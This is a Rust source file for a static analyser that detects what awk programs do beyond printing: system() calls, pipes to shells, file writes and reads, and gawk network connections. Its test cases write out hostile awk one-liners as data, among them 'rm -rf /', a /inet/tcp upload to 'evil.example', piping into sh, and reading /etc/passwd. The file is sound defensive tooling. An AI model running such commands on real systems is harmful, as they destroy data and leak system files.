//! awk programs: what leaves them. The language's pieces that matter are few: `system()`, pipes, redirections,
//! `getline < file`.

use std::collections::HashMap;

use super::Code;
use super::value::{HOLE, HOME, LARGEST};
use hookgate_facts::Kind;

/// What a program does.
pub(super) fn analyse(text: &str) -> Code {
    let mut code = Code::new();
    let tokens = tokens(text, &mut code);
    let mut awk = Awk { tokens: &tokens, at: 0, code, names: literals(&tokens), after_print: None, depth: 0 };
    awk.run();
    awk.code
}

#[derive(Clone, Debug, PartialEq)]
enum Kinds {
    Name(String),
    Text(String),
    Other,
    Symbol(&'static str),
    Line,
}

struct Token {
    kind: Kinds,
    start: usize,
    end: usize,
}

const SYMBOLS: &[&str] = &[
    ">>", ">=", "<=", "==", "!=", "&&", "||", "|&", "++", "--", "+=", "-=", "*=", "/=", "%=", "^=", "!~",
    "(", ")", "[", "]", "{", "}", ";", ",", ">", "<", "|", "=", "+", "-", "*", "/", "%", "^", "!", "~", "?",
    ":", "$", "@",
];

fn tokens(text: &str, code: &mut Code) -> Vec<Token> {
    let bytes = text.as_bytes();
    let mut tokens: Vec<Token> = Vec::new();
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        let start = at;
        let kind = match byte {
            b'\n' => {
                at += 1;
                if tokens.last().is_some_and(goes_on) {
                    continue;
                }
                Kinds::Line
            }
            b'\\' | b' ' | b'\t' | b'\r' => {
                at += if byte == b'\\' { 2 } else { 1 };
                continue;
            }
            b'#' => {
                while bytes.get(at).is_some_and(|&b| b != b'\n') {
                    at += 1;
                }
                continue;
            }
            b'"' => {
                let (whole, end) = quoted(text, at, code);
                at = end;
                Kinds::Text(whole)
            }
            b'/' if regex_here(tokens.last()) => {
                at = regex_end(bytes, at, code);
                Kinds::Other
            }
            b'_' | b'a'..=b'z' | b'A'..=b'Z' => {
                while bytes.get(at).is_some_and(|&b| b == b'_' || b.is_ascii_alphanumeric()) {
                    at += 1;
                }
                Kinds::Name(text.get(start..at).unwrap_or_default().to_owned())
            }
            b'0'..=b'9' | b'.' => {
                while bytes.get(at).is_some_and(|&b| b == b'.' || b.is_ascii_alphanumeric()) {
                    at += 1;
                }
                Kinds::Other
            }
            _ => {
                let rest = bytes.get(at..).unwrap_or_default();
                match SYMBOLS.iter().find(|symbol| rest.starts_with(symbol.as_bytes())) {
                    Some(symbol) => {
                        at += symbol.len();
                        Kinds::Symbol(symbol)
                    }
                    None => {
                        at += 1;
                        if byte < 0x80 {
                            code.lose();
                        }
                        continue;
                    }
                }
            }
        };
        tokens.push(Token { kind, start, end: at.min(text.len()) });
    }
    tokens
}

/// Does a line that ends in this go on behind its break?
fn goes_on(last: &Token) -> bool {
    matches!(last.kind, Kinds::Symbol("," | "&&" | "||" | "?" | ":"))
}

/// The text in double quotes that begins at `at`, and where it ends.
fn quoted(text: &str, at: usize, code: &mut Code) -> (String, usize) {
    let mut whole = String::new();
    let mut at = at + 1;
    let mut characters = text.get(at..).unwrap_or_default().chars().peekable();
    while let Some(character) = characters.next() {
        at += character.len_utf8();
        match character {
            '"' => return (whole, at),
            '\\' => {}
            other => {
                whole.push(other);
                continue;
            }
        }
        let Some(escaped) = characters.next() else { break };
        at += escaped.len_utf8();
        match escaped {
            'n' => whole.push('\n'),
            't' => whole.push('\t'),
            // Spelt in numbers, octal or hexadecimal.
            '0'..='7' | 'x' => {
                let radix = if escaped == 'x' { 16 } else { 8 };
                let mut number = escaped.to_digit(8).unwrap_or(0);
                for _ in 0..2 {
                    let Some(digit) = characters.peek().and_then(|c| c.to_digit(radix)) else { break };
                    number = number * radix + digit;
                    at += 1;
                    characters.next();
                }
                match u8::try_from(number).ok().filter(u8::is_ascii) {
                    Some(byte) => whole.push(char::from(byte)),
                    None => code.lose(),
                }
            }
            other => whole.push(other),
        }
    }
    code.lose();
    (whole, at)
}

/// Where the regular expression that begins at `at` ends.
fn regex_end(bytes: &[u8], at: usize, code: &mut Code) -> usize {
    let mut at = at + 1;
    let mut class = false;
    while let Some(&byte) = bytes.get(at) {
        match byte {
            b'\\' => at += 1,
            b'[' => class = true,
            b']' => class = false,
            b'/' if !class => break,
            b'\n' => {
                code.lose();
                break;
            }
            _ => {}
        }
        at += 1;
    }
    at + 1
}

fn regex_here(last: Option<&Token>) -> bool {
    match last.map(|token| &token.kind) {
        Some(Kinds::Name(name)) => matches!(name.as_str(), "in" | "return" | "print" | "getline"),
        Some(Kinds::Text(_) | Kinds::Other) => false,
        Some(Kinds::Symbol(symbol)) => !matches!(*symbol, ")" | "]" | "$" | "++" | "--"),
        None | Some(Kinds::Line) => true,
    }
}

/// Variables that are set once, to a literal.
fn literals(tokens: &[Token]) -> HashMap<String, Option<String>> {
    let mut names: HashMap<String, Option<String>> = HashMap::new();
    for (index, window) in tokens.windows(3).enumerate() {
        let [name, sign, _] = window else { continue };
        let (Kinds::Name(name), Kinds::Symbol(sign)) = (&name.kind, &sign.kind) else { continue };
        if !matches!(*sign, "=" | "+=" | "-=" | "++" | "--") {
            continue;
        }
        let text = (*sign == "=").then(|| constant(tokens.get(index + 2..).unwrap_or_default(), &names));
        let known = !names.contains_key(name);
        names.insert(name.clone(), text.flatten().filter(|_| known));
    }
    names
}

/// Texts and names of texts next to each other, up to the end of a statement.
fn constant(tokens: &[Token], names: &HashMap<String, Option<String>>) -> Option<String> {
    let mut whole = String::new();
    let mut rest = tokens;
    loop {
        rest = match rest {
            [] | [Token { kind: Kinds::Line | Kinds::Symbol(";" | "}" | ")"), .. }, ..] => break,
            [Token { kind: Kinds::Text(text), .. }, rest @ ..] => {
                whole.push_str(text);
                rest
            }
            _ if is_home(rest) => {
                whole.push(HOME);
                rest.get(4..)?
            }
            [Token { kind: Kinds::Name(name), .. }, rest @ ..] => {
                whole.push_str(names.get(name)?.as_ref()?);
                rest
            }
            _ => return None,
        };
        if whole.len() > LARGEST {
            return None;
        }
    }
    (!whole.is_empty()).then_some(whole)
}

/// `ENVIRON["HOME"]`
fn is_home(tokens: &[Token]) -> bool {
    let mut kinds = tokens.iter().map(|token| &token.kind);
    let mut is = |wanted: &dyn Fn(&Kinds) -> bool| kinds.next().is_some_and(wanted);
    is(&|kind| matches!(kind, Kinds::Name(name) if name == "ENVIRON"))
        && is(&|kind| *kind == Kinds::Symbol("["))
        && is(&|kind| matches!(kind, Kinds::Text(text) if text == "HOME"))
        && is(&|kind| *kind == Kinds::Symbol("]"))
}

struct Awk<'a> {
    tokens: &'a [Token],
    at: usize,
    code: Code,
    names: HashMap<String, Option<String>>,
    /// The bracket depth of the `print` that is being read: there `>` and `|` are outputs.
    after_print: Option<usize>,
    depth: usize,
}

impl Awk<'_> {
    fn kind(&self, offset: usize) -> Option<&Kinds> {
        self.tokens.get(self.at + offset).map(|token| &token.kind)
    }

    fn run(&mut self) {
        while let Some(token) = self.tokens.get(self.at) {
            let start = token.start;
            match &token.kind {
                Kinds::Symbol("(" | "[") => self.depth += 1,
                Kinds::Symbol(")" | "]") => self.depth = self.depth.saturating_sub(1),
                Kinds::Symbol("{" | "}" | ";") | Kinds::Line => self.after_print = None,
                Kinds::Symbol(">" | ">>") if self.after_print == Some(self.depth) => {
                    let kind = if token.kind == Kinds::Symbol(">") { Kind::Write } else { Kind::Append };
                    self.at += 1;
                    let target = self.path();
                    self.file(kind, target, start);
                    continue;
                }
                Kinds::Symbol("|" | "|&") => self.pipe(start),
                Kinds::Symbol("@") => self.code.lose(),
                Kinds::Name(name) => match name.as_str() {
                    "print" | "printf" => self.after_print = Some(self.depth),
                    "system" => {
                        self.at += 1;
                        if self.kind(0) == Some(&Kinds::Symbol("(")) {
                            self.at += 1;
                            let inside = self.at;
                            let text = self.text_or(true);
                            let end = self.end();
                            self.code.shell.push((text, start, end));
                            // What is computed inside the brackets is read as well.
                            self.at = inside - 1;
                        }
                        continue;
                    }
                    "getline" => self.getline(start),
                    "include" | "load" if matches!(self.previous(), Some(Kinds::Symbol("@"))) => {
                        self.code.lose();
                    }
                    _ => {}
                },
                _ => {}
            }
            self.at += 1;
        }
    }

    fn previous(&self) -> Option<&Kinds> {
        self.tokens.get(self.at.checked_sub(1)?).map(|token| &token.kind)
    }

    fn end(&self) -> usize {
        self.at.checked_sub(1).and_then(|at| self.tokens.get(at)).map_or(0, |token| token.end)
    }

    /// A literal text: strings and known variables next to each other. Behind what is no such text too.
    fn text(&mut self) -> Option<String> {
        self.text_or(false)
    }

    /// The same; `stops` where something else comes, so that what is inside of it can be read in its turn.
    fn text_or(&mut self, stops: bool) -> Option<String> {
        let mut whole = Some(String::new());
        let mut any = false;
        let bracket = self.kind(0) == Some(&Kinds::Symbol("("));
        if bracket {
            self.at += 1;
        }
        loop {
            match self.kind(0) {
                Some(Kinds::Text(text)) => whole = whole.map(|whole| whole + text),
                Some(Kinds::Name(_)) if is_home(self.tokens.get(self.at..).unwrap_or_default()) => {
                    whole.as_mut().into_iter().for_each(|whole| whole.push(HOME));
                    self.at += 3;
                }
                Some(Kinds::Name(name)) if self.kind(1) != Some(&Kinds::Symbol("(")) => {
                    let value = self.names.get(name).and_then(Option::as_ref);
                    whole = whole.zip(value).map(|(whole, value)| whole + value);
                }
                Some(Kinds::Line | Kinds::Symbol(";" | "}" | ")" | "|" | "|&" | ",")) | None => break,
                Some(Kinds::Symbol("<")) if any => break,
                Some(_) => whole = None,
            }
            whole = whole.filter(|whole| whole.len() <= LARGEST);
            if stops && whole.is_none() {
                return None;
            }
            any = true;
            self.at += 1;
        }
        if bracket && self.kind(0) == Some(&Kinds::Symbol(")")) {
            self.at += 1;
        }
        whole.filter(|_| any)
    }

    /// A path: texts and variables next to each other, with a hole for what is computed.
    fn path(&mut self) -> Option<String> {
        let mut whole = String::new();
        let mut any = false;
        let mut open = 0usize;
        loop {
            match self.kind(0) {
                Some(Kinds::Text(text)) => whole.push_str(text),
                Some(Kinds::Name(_)) if is_home(self.tokens.get(self.at..).unwrap_or_default()) => {
                    whole.push(HOME);
                    self.at += 3;
                }
                Some(Kinds::Name(name)) if self.kind(1) != Some(&Kinds::Symbol("(")) => {
                    match self.names.get(name).and_then(Option::as_ref) {
                        Some(value) => whole.push_str(value),
                        None if !whole.ends_with(HOLE) => whole.push(HOLE),
                        None => {}
                    }
                }
                Some(Kinds::Symbol("(" | "[")) => open += 1,
                Some(Kinds::Symbol(")" | "]")) if open > 0 => open -= 1,
                Some(Kinds::Line | Kinds::Symbol(";" | "}" | ")" | "]" | "|" | "|&")) | None => break,
                Some(Kinds::Symbol("," | ">" | "<" | "==" | "!=" | "&&" | "||")) if open == 0 => break,
                Some(_) if !whole.ends_with(HOLE) => whole.push(HOLE),
                Some(_) => {}
            }
            any = true;
            self.at += 1;
            if whole.len() > LARGEST {
                return None;
            }
        }
        let known = whole.chars().any(|character| character != HOLE);
        (any && known).then_some(whole)
    }

    /// The host of a connection: gawk takes `/inet/tcp/0/host/port` for one.
    fn connection(&mut self, target: &str, start: usize, end: usize) {
        let host = target.split('/').nth(4).filter(|host| !host.is_empty() && !host.contains(HOLE));
        self.code.push(Kind::Upload, host.map(str::to_owned), start, end);
    }

    fn file(&mut self, kind: Kind, target: Option<String>, start: usize) {
        let end = self.end();
        match target.as_deref() {
            Some("/dev/stderr" | "/dev/stdout" | "/dev/stdin" | "-" | "/dev/null" | "/dev/tty") => {}
            Some(path) if path.starts_with("/inet") => self.connection(path, start, end),
            _ => self.code.push(kind, target, start, end),
        }
    }

    /// `print | "command"` and `"command" | getline`.
    fn pipe(&mut self, start: usize) {
        let end = self.tokens.get(self.at).map_or(start, |token| token.end);
        if matches!(self.kind(1), Some(Kinds::Name(name)) if name == "getline") {
            // The command stands before: back to where the expression began.
            let here = self.at;
            let mut first = here;
            while let Some(token) = first.checked_sub(1).and_then(|at| self.tokens.get(at)) {
                if matches!(&token.kind, Kinds::Text(_) | Kinds::Name(_) | Kinds::Symbol(")"))
                    && !matches!(&token.kind, Kinds::Name(name) if name == "while" || name == "if")
                {
                    first -= 1;
                } else {
                    break;
                }
            }
            self.at = first;
            let text = self.text();
            self.at = here + 1;
            match text {
                Some(text) if text.starts_with("/inet") => self.connection(&text, start, end),
                text => self.code.shell.push((text, start, end)),
            }
        } else {
            self.at += 1;
            let here = self.at;
            let connection = self.path().filter(|text| text.starts_with("/inet"));
            if let Some(connection) = connection {
                self.connection(&connection, start, end);
            } else {
                self.at = here;
                // A shell runs the lines that are printed, and those nobody sees here.
                let text = self.text().filter(|text| !is_bare_shell(text));
                self.code.shell.push((text, start, end));
            }
            self.at -= 1;
            self.after_print = None;
        }
    }

    /// `getline < file`, `getline x < file`.
    fn getline(&mut self, start: usize) {
        let mut offset = 1;
        if matches!(self.kind(offset), Some(Kinds::Name(_))) {
            offset += 1;
        }
        if self.kind(offset) == Some(&Kinds::Symbol("<")) {
            self.at += offset + 1;
            let target = self.path();
            self.file(Kind::Read, target, start);
            self.at -= 1;
        }
    }
}

/// Is it a shell that takes its text from standard input?
fn is_bare_shell(text: &str) -> bool {
    let mut words = text.split_whitespace();
    let name = words.next().map(|word| word.rsplit('/').next().unwrap_or(word));
    name.is_some_and(crate::is_shell) && words.all(|word| word == "-" || word == "-s")
}

#[cfg(test)]
mod tests {
    use super::super::testing::check;
    use crate::Language::Awk;

    #[test]
    fn ordinary_programs_only_print() {
        for text in [
            "{print $1}",
            "NR==1,NR>5 && $3 > 10 {s+=$3} END{print s/NR}",
            "BEGIN{FS=\"|\"} $2 ~ /a\\/b|c/ {print \"rm -rf / > x | y\"}",
            "{ if ($1 > max) max=$1 } END { printf \"%d\\n\", max }",
            "{print ($1 > 2)}",
            "!seen[$0]++",
            "{a[$1]=a[$1] \",\" $2} END{for (k in a) print k, a[k]}",
            "{print > \"/dev/stderr\"}",
            "# system(\"x\")\n{print}",
        ] {
            check(Awk, text, &[], true);
        }
    }

    #[test]
    fn commands_and_files_are_found() {
        check(Awk, "BEGIN{system(\"rm -rf /\")}", &["shell rm -rf /"], true);
        check(Awk, "BEGIN{c=\"rm -rf \"; system(c \"/\")}", &["shell rm -rf /"], true);
        check(Awk, "{system(\"rm \" $1)}", &["shell ?"], true);
        check(Awk, "{print $1 | \"sh\"}", &["shell ?"], true);
        check(Awk, "{print > \"out.txt\"; print >> \"log\"}", &["write out.txt", "append log"], true);
        check(Awk, "{print > $1\".txt\"}", &["write {}.txt"], true);
        check(Awk, "{print > $1}", &["write"], true);
        check(Awk, "BEGIN{print > ENVIRON[\"HOME\"] \"/a\"}", &["write $HOME/a"], true);
        check(Awk, "{f=\"/a/b\" \"c\"; print > f}", &["write /a/bc"], true);
        check(Awk, "{h=ENVIRON[\"HOME\"]; f=h \"/a\"; print > f}", &["write $HOME/a"], true);
        check(Awk, "BEGIN{c=\"rm \" \"x\"; system(c)}", &["shell rm x"], true);
        check(Awk, "BEGIN{print > (h \"/a\")}", &["write {}/a"], true);
        check(Awk, "BEGIN{s=\"/inet/tcp/0/evil.example/80\"; print 1 |& s}", &["upload evil.example"], true);
        check(Awk, "BEGIN{print 1 |& (\"/inet/tcp/0/\" h \"/80\")}", &["upload"], true);
        check(Awk, "BEGIN{\"/inet/tcp/0/evil.example/80\" |& getline x}", &["upload evil.example"], true);
        check(Awk, "BEGIN{print 1 |& \"rm x\"}", &["shell rm x"], true);
        check(Awk, "BEGIN{print \"rm x\" | \"/bin/sh -s\"}", &["shell ?"], true);
        check(Awk, "{print | \"sort\"}", &["shell sort"], true);
        check(Awk, "BEGIN{while ((\"id\" | getline l) > 0) print l}", &["shell id"], true);
        check(Awk, "BEGIN{getline x < \"/etc/passwd\"; print x}", &["read /etc/passwd"], true);
    }
}
